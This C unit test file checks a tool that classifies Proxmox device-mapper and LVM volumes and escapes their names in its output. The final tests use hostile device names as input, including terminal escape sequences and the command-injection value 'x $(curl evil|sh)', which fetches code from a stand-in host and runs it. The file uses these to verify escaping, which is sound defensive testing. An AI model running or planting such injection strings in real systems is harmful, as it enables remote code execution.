// SPDX-License-Identifier: GPL-2.0
/*
 * Classification against hand-written states: every class, reason and severity,
 * the grade and exit code, and the seed-000 false positives we must not repeat.
 */
#include <libdevmapper.h>
#include <stdlib.h>
#include "analyze/classify.h"
#include "render/output.h"
#include "model/state.h"
#include "test.h"
#include "jtree.h"
#include "lib/util.h"
#include "lib/escape.h"

static const struct dev_finding *by_name(const struct report *r, const char *name)
{
	for (size_t i = 0; i < r->n_devs; i++)
		if (!strcmp(r->devs[i].dev->name, name))
			return &r->devs[i];
	return NULL;
}

static const struct space_finding *space(const struct report *r, const char *lv)
{
	for (size_t i = 0; i < r->n_spaces; i++)
		if (!strcmp(r->spaces[i].lv, lv))
			return &r->spaces[i];
	return NULL;
}

#define EXPECT(r, name, cls_, reason_, sev_) do {				\
	const struct dev_finding *f__ = by_name(r, name);			\
	if (!f__) {								\
		FAIL_AT("no device %s", name);					\
		break;								\
	}									\
	if (f__->cls != (cls_) || f__->severity != (sev_) ||			\
	    strcmp(f__->reason ? f__->reason : "-", (reason_) ? (reason_) : "-")) \
		FAIL_AT("%s: %s/%s/%s, expected %s/%s/%s", name, class_str(f__->cls), \
			f__->reason ? f__->reason : "-", severity_str(f__->severity), \
			class_str(cls_), (reason_) ? (reason_) : "-", severity_str(sev_)); \
} while (0)

TEST(classify_cluster_every_class)
{
	struct classify_opts o;
	struct state st;
	struct report r;

	if (fixture_state(&st, "cluster.json")) {
		FAIL_AT("fixture");
		return;
	}
	classify_opts_default(&o);
	classify(&st, &o, &r);

	EXPECT(&r, "pve-root", CLASS_VALID, NULL, SEV_OK);
	EXPECT(&r, "pve-data", CLASS_INTERNAL, NULL, SEV_OK);
	EXPECT(&r, "pve-data-tpool", CLASS_INTERNAL, NULL, SEV_OK);
	EXPECT(&r, "pve-data_tdata", CLASS_INTERNAL, NULL, SEV_OK);
	EXPECT(&r, "pve-data_tmeta", CLASS_INTERNAL, NULL, SEV_OK);
	EXPECT(&r, "pve-vm--101--disk--0", CLASS_VALID, NULL, SEV_OK);
	EXPECT(&r, "pve-vm--102--disk--0", CLASS_VALID, NULL, SEV_OK);	/* LXC disk */
	EXPECT(&r, "pve-base--100--disk--0", CLASS_VALID, NULL, SEV_OK);	/* template */
	EXPECT(&r, "pve-vm--103--disk--0", CLASS_VALID, NULL, SEV_OK);	/* linked clone */
	EXPECT(&r, "pve-vm--101--disk--5", CLASS_TOMBSTONE, "unreferenced", SEV_WARNING);
	EXPECT(&r, "pve-vm--104--disk--0", CLASS_TOMBSTONE, "no-guest", SEV_WARNING);
	EXPECT(&r, "pve-vm--200--disk--0", CLASS_TOMBSTONE, "other-node", SEV_WARNING);
	EXPECT(&r, "pve-vm--101--disk--0-dup", CLASS_DUPLICATE, NULL, SEV_CRITICAL);
	EXPECT(&r, "pve-vm--101--disk--0p1", CLASS_INTERNAL, NULL, SEV_OK);	/* kpartx */
	/* same disk number on two storages, one matched only case-insensitively */
	EXPECT(&r, "ssd--ha01-vm--119--disk--0", CLASS_VALID, NULL, SEV_OK);
	EXPECT(&r, "ssd--ha07-vm--119--disk--0", CLASS_VALID, NULL, SEV_OK);
	EXPECT(&r, "ssd--ha01-vm--105--disk--0", CLASS_TOMBSTONE, "stale", SEV_CRITICAL);
	/* snapshot stack: -real and -cow are layers, never duplicates */
	EXPECT(&r, "vmdata-vm--110--disk--0-real", CLASS_INTERNAL, NULL, SEV_OK);
	EXPECT(&r, "vmdata-snap--110--0-cow", CLASS_INTERNAL, NULL, SEV_OK);
	EXPECT(&r, "vmdata-vm--110--disk--0", CLASS_VALID, NULL, SEV_OK);
	EXPECT(&r, "vmdata-snap--110--0", CLASS_VALID, NULL, SEV_OK);
	EXPECT(&r, "luks-abc", CLASS_UNMANAGED, NULL, SEV_OK);

	CHECK_STR(by_name(&r, "pve-vm--101--disk--0")->storage, "local-lvm");
	CHECK_STR(by_name(&r, "ssd--ha01-vm--119--disk--0")->storage, "SSD-HA01");
	CHECK_INT(by_name(&r, "pve-vm--102--disk--0")->guest_type, GUEST_LXC);
	CHECK_INT(by_name(&r, "pve-vm--101--disk--0-dup")->n_dup_of, 1);
	CHECK_INT(by_name(&r, "ssd--ha01-vm--105--disk--0")->vmid, 105);
	CHECK(strstr(by_name(&r, "ssd--ha01-vm--105--disk--0")->detail, "vm-119-disk-0"));

	CHECK_INT(r.n_class[CLASS_VALID], 10);
	CHECK_INT(r.n_class[CLASS_INTERNAL], 8);
	CHECK_INT(r.n_class[CLASS_TOMBSTONE], 4);
	CHECK_INT(r.n_class[CLASS_DUPLICATE], 1);
	CHECK_INT(r.n_class[CLASS_UNMANAGED], 1);

	CHECK(space(&r, "pve/data") && space(&r, "pve/data")->severity == SEV_WARNING);
	CHECK_DBL(space(&r, "pve/data")->used_percent, 85.0);
	CHECK_DBL(space(&r, "pve/data")->metadata_percent, 10.0);
	CHECK(space(&r, "vmdata/snap-110-0")->severity == SEV_WARNING);
	CHECK_STR(space(&r, "vmdata/snap-110-0")->origin, "vmdata/vm-110-disk-0");
	CHECK(space(&r, "vmdata/snap-110-1")->severity == SEV_CRITICAL);
	CHECK_STR(space(&r, "vmdata/snap-110-1")->state, "invalid");
	CHECK(strstr(space(&r, "vmdata/snap-110-1")->remedy, "lvremove vmdata/snap-110-1"));

	CHECK_INT(r.warnings, 5);
	CHECK_INT(r.criticals, 3);
	CHECK_STR(r.grade, "F");
	CHECK_INT(r.exit_code, 2);
	report_free(&r);
	state_free(&st);
}

TEST(classify_thresholds_configurable)
{
	struct classify_opts o = { .warn_percent = 90, .crit_percent = 99 };
	struct state st;
	struct report r;

	if (fixture_state(&st, "cluster.json")) {
		FAIL_AT("fixture");
		return;
	}
	classify(&st, &o, &r);
	/* 85 % pool and 89.8 % snapshot are fine under a 90 % warning threshold */
	CHECK(space(&r, "pve/data")->severity == SEV_OK);
	CHECK(space(&r, "vmdata/snap-110-0")->severity == SEV_OK);
	CHECK(space(&r, "vmdata/snap-110-1")->severity == SEV_CRITICAL);
	CHECK_INT(r.warnings, 3);
	report_free(&r);
	state_free(&st);
}

TEST(classify_without_pve_skips_guest_checks)
{
	struct classify_opts o;
	struct state st;
	struct report r;

	if (fixture_state(&st, "cluster.json")) {
		FAIL_AT("fixture");
		return;
	}
	st.have_pve = false;
	classify_opts_default(&o);
	classify(&st, &o, &r);
	EXPECT(&r, "pve-vm--104--disk--0", CLASS_VALID, NULL, SEV_OK);
	EXPECT(&r, "pve-vm--101--disk--0-dup", CLASS_DUPLICATE, NULL, SEV_CRITICAL);
	EXPECT(&r, "ssd--ha01-vm--105--disk--0", CLASS_TOMBSTONE, "stale", SEV_CRITICAL);
	report_free(&r);
	state_free(&st);
}

/* the scan JSON, parsed back by a strict UTF-8 parser */
/* plain dm devices (no uuid) with these names, as 253:0, 253:1, ... */
static void add_plain_devs(struct state *st, const char *const *names, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		struct dm_dev *d = array_push(&st->devs, &st->n_devs, sizeof(*d));

		d->name = xstrdup(names[i]);
		d->uuid = xstrdup("");
		d->major = 253;
		d->minor = i;
	}
}

static yajl_val scan_json(int *failed__, const struct report *r)
{
	char *text = NULL, err[256];
	size_t len = 0;
	FILE *f = open_memstream(&text, &len);
	yajl_val root;

	if (!f)
		return NULL;
	output_json(f, r);
	fclose(f);
	root = jt_parse(text, err, sizeof(err));
	if (!root)
		FAIL_AT("scan JSON does not parse: %s", err);
	free(text);
	return root;
}

TEST(classify_json_contract)
{
	struct classify_opts o;
	yajl_val root, v, dev;
	struct state st;
	struct report r;

	if (fixture_state(&st, "cluster.json")) {
		FAIL_AT("fixture");
		return;
	}
	classify_opts_default(&o);
	classify(&st, &o, &r);
	root = scan_json(failed__, &r);
	CHECK_INT(jt_int(root, "schema"), 1);
	CHECK_STR(jt_str(root, "grade"), "F");
	CHECK_INT(jt_int(root, "exit"), 2);
	CHECK_INT(jt_int(jt_get(root, "summary"), "tombstones"), 4);
	v = jt_get(root, "devices");
	CHECK_INT(jt_len(v), 24);
	for (size_t i = 0; i < jt_len(v); i++) {
		dev = jt_at(v, i);
		if (strcmp(jt_str(dev, "name"), "pve-vm--101--disk--0"))
			continue;
		CHECK(!strncmp(jt_str(dev, "dev"), "dm-", 3));
		CHECK_INT(jt_int(dev, "vmid"), 101);
		CHECK_STR(jt_str(dev, "guest_type"), "qemu");
		CHECK_STR(jt_str(dev, "volume"), "vm-101-disk-0");
		CHECK(jt_null(dev, "layer"));
		CHECK_INT(jt_len(jt_get(dev, "duplicate_of")), 1);
	}
	CHECK_INT(jt_len(jt_get(root, "snapshots")), 3);
	CHECK_INT(jt_len(jt_get(root, "guests")), 9);
	yajl_tree_free(root);
	report_free(&r);
	state_free(&st);
}

TEST(split_lvm_name_like_libdevmapper)
{
	char *vg, *lv, *layer;

	CHECK(split_lvm_name("pve-vm--101--disk--0", &vg, &lv, &layer));
	CHECK_STR(vg, "pve");
	CHECK_STR(lv, "vm-101-disk-0");
	CHECK_STR(layer, "");
	free(vg), free(lv), free(layer);

	CHECK(split_lvm_name("pve-vm--101--disk--0-real", &vg, &lv, &layer));
	CHECK_STR(lv, "vm-101-disk-0");
	CHECK_STR(layer, "real");
	free(vg), free(lv), free(layer);

	CHECK(split_lvm_name("t1--ha07-vm--115--disk--0", &vg, &lv, &layer));
	CHECK_STR(vg, "t1-ha07");
	CHECK_STR(lv, "vm-115-disk-0");
	free(vg), free(lv), free(layer);

	CHECK(split_lvm_name("pve-data_tdata", &vg, &lv, &layer));
	CHECK_STR(lv, "data_tdata");
	free(vg), free(lv), free(layer);

	CHECK(!split_lvm_name("nodash", &vg, &lv, &layer));
	CHECK(!split_lvm_name("", &vg, &lv, &layer));
	CHECK(!split_lvm_name("-", &vg, &lv, &layer));
}

/*
 * Against libdevmapper itself (the unit tests link it; dmwatch does not): every
 * name of up to 8 bytes over 'a', 'b', '-' splits the same, including "--" at the
 * ends, a trailing '-' and a fourth part.
 */
TEST(split_lvm_name_agrees_with_libdevmapper_on_every_short_name)
{
	static const char alphabet[] = "a-b";
	char name[9], copy[9];
	int checked = 0;

	for (int len = 0; len <= 8; len++) {
		int total = 1;

		for (int i = 0; i < len; i++)
			total *= 3;
		for (int k = 0; k < total; k++) {
			char *vg, *lv, *layer, *dv = copy, *dl = NULL, *dy = NULL;
			bool ours, theirs;

			for (int i = 0, v = k; i < len; i++, v /= 3)
				name[i] = alphabet[v % 3];
			name[len] = 0;
			memcpy(copy, name, sizeof(name));
			CHECK(dm_split_lvm_name(NULL, NULL, &dv, &dl, &dy));
			theirs = *dv && dl && *dl;
			ours = split_lvm_name(name, &vg, &lv, &layer);
			if (ours != theirs) {
				fprintf(stderr, "  \"%s\": ours %d, libdevmapper %d\n", name, ours, theirs);
				CHECK(ours == theirs);
			}
			if (ours && theirs) {
				CHECK_STR(vg, dv);
				CHECK_STR(lv, dl);
				CHECK_STR(layer, dy ? dy : "");
			}
			if (ours)
				free(vg), free(lv), free(layer);
			checked++;
		}
	}
	CHECK_INT(checked, 9841);
}

TEST(split_lvm_name_127_bytes)
{
	char name[128], *vg, *lv, *layer;

	memset(name, 'a', 127);
	name[127] = 0;
	name[10] = '-';
	CHECK(split_lvm_name(name, &vg, &lv, &layer));
	CHECK_INT(strlen(vg), 10);
	CHECK_INT(strlen(lv), 116);
	free(vg), free(lv), free(layer);
}

TEST(parse_lvm_uuid_parts)
{
	char vgu[33], lvu[33], layer[32];
	const char *u = "LVM-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAABBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB";
	char *withl = xasprintf("%s-tpool", u);

	CHECK(parse_lvm_uuid(u, vgu, lvu, layer));
	CHECK_STR(vgu, "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA");
	CHECK_STR(lvu, "BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB");
	CHECK_STR(layer, "");
	CHECK(parse_lvm_uuid(withl, vgu, lvu, layer));
	CHECK_STR(layer, "tpool");
	CHECK(!parse_lvm_uuid("CRYPT-LUKS2-abc", vgu, lvu, layer));
	CHECK(!parse_lvm_uuid("LVM-short", vgu, lvu, layer));
	CHECK(!parse_lvm_uuid("", vgu, lvu, layer));
	free(withl);
}

TEST(grade_scale_seed000)
{
	CHECK_STR(grade_for(0, 0), "A+");
	CHECK_STR(grade_for(1, 0), "B");
	CHECK_STR(grade_for(5, 0), "B");
	CHECK_STR(grade_for(6, 0), "C");
	CHECK_STR(grade_for(20, 0), "C");
	CHECK_STR(grade_for(21, 0), "D");
	CHECK_STR(grade_for(50, 0), "D");
	CHECK_STR(grade_for(51, 0), "F");
	CHECK_STR(grade_for(0, 1), "F");
}

/* Hostile names through scan --json: valid UTF-8 JSON, bad bytes as U+FFFD, controls escaped */
TEST(scan_json_hostile_names)
{
	static const char *const names[] = { "ctl\001\002\377", "esc\033[2J", "bad\xc3\x28" };
	static const char *const shown[] = {
		"ctl\001\002\xef\xbf\xbd", "esc\033[2J", "bad\xef\xbf\xbd(",
	};
	struct state st = { .schema = STATE_SCHEMA, .have_dm = true };
	struct classify_opts o;
	struct report r;
	yajl_val root, devs;

	st.host = xstrdup("h\377");
	add_plain_devs(&st, names, ARRAY_SIZE(names));
	state_add_problem(&st, "/etc/pve/qemu-server/101.conf", "bad line \"\001\002\377\"");
	classify_opts_default(&o);
	classify(&st, &o, &r);
	root = scan_json(failed__, &r);
	devs = jt_get(root, "devices");
	CHECK_INT(jt_len(devs), ARRAY_SIZE(names));
	for (size_t i = 0; i < jt_len(devs); i++) {
		const char *name = jt_str(jt_at(devs, i), "name");
		bool known = false;

		for (size_t k = 0; k < ARRAY_SIZE(shown); k++)
			known |= name && !strcmp(name, shown[k]);
		CHECK(known);
	}
	CHECK_STR(jt_str(root, "host"), "h\xef\xbf\xbd");
	CHECK_STR(jt_str(jt_at(jt_get(root, "problems"), 0), "message"),
		  "bad line \"\001\002\xef\xbf\xbd\"");
	yajl_tree_free(root);
	report_free(&r);
	state_free(&st);
}

/* the terminal table never passes a control byte or a byte that is not UTF-8 through */
TEST(scan_table_hostile_names_escaped)
{
	static const char *const names[] = { "ctl\001\002\377", "esc\033]0;pwned\007", "nl\nforged",
					     "c1\xc2\x9b" "2J", "x $(curl evil|sh)" };
	struct state st = { .schema = STATE_SCHEMA, .have_dm = true };
	struct classify_opts o;
	struct report r;
	char *out = NULL;
	size_t len = 0;
	FILE *f;

	st.host = xstrdup("h\033[2J");
	add_plain_devs(&st, names, ARRAY_SIZE(names));
	state_add_problem(&st, "/etc/pve/qemu-server/101.conf\033[2J", "bad line \"\001\033\377\"");
	classify_opts_default(&o);
	classify(&st, &o, &r);
	f = open_memstream(&out, &len);
	output_table(f, &r);
	fclose(f);
	CHECK(utf8_valid(out, len));
	for (size_t i = 0; i < len; i++) {
		unsigned char c = out[i];

		if ((c < 0x20 && c != '\n') || c == 0x7f)
			FAIL_AT("raw control byte 0x%02x at %zu", c, i);
		if (c == 0xc2 && i + 1 < len && (unsigned char)out[i + 1] < 0xa0)
			FAIL_AT("raw C1 control at %zu", i);
	}
	/* shown escaped, not dropped */
	CHECK(strstr(out, "host h\\x1b[2J") != NULL);
	CHECK(strstr(out, "bad line \"\\x01\\x1b\\xff\"") != NULL);
	CHECK(strstr(out, "101.conf\\x1b[2J input") != NULL);
	CHECK(strstr(out, "\nforged") == NULL);
	free(out);
	report_free(&r);
	state_free(&st);
}
